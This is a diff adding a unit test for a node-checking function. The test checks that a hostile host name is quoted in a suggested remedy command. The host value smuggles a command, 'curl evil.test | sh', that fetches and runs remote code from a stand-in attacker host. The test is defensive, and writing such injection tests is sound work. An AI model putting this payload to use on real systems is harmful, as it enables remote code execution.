@@ -197,6 +197,15 @@ test("checkNodes() warns about mixed versions and clocks of nodes that run", () 
   );
 });
 
+test("checkNodes() names a host so that a shell runs nothing of it", () => {
+  const host = "b; curl evil.test | sh #";
+  const nodes = [NODE, { ...NODE, id: "b", state: "skewed", skewMs: -2_000, host }];
+  const [found] = checkNodes({
+    ...{ daemon: { ...DAEMON, nodes }, version: "1.0.0", restart: "restart" },
+  });
+  assert.equal(found!.remedy, "on 'b; curl evil.test | sh #': sudo chronyc makestep");
+});
+
 test("checkDaemon() reports reloads and jobs that failed", () => {
   const judge = (daemon: Partial<DaemonFacts>) => {
     const found = { type: "running", daemon: { ...DAEMON, ...daemon } } as const;
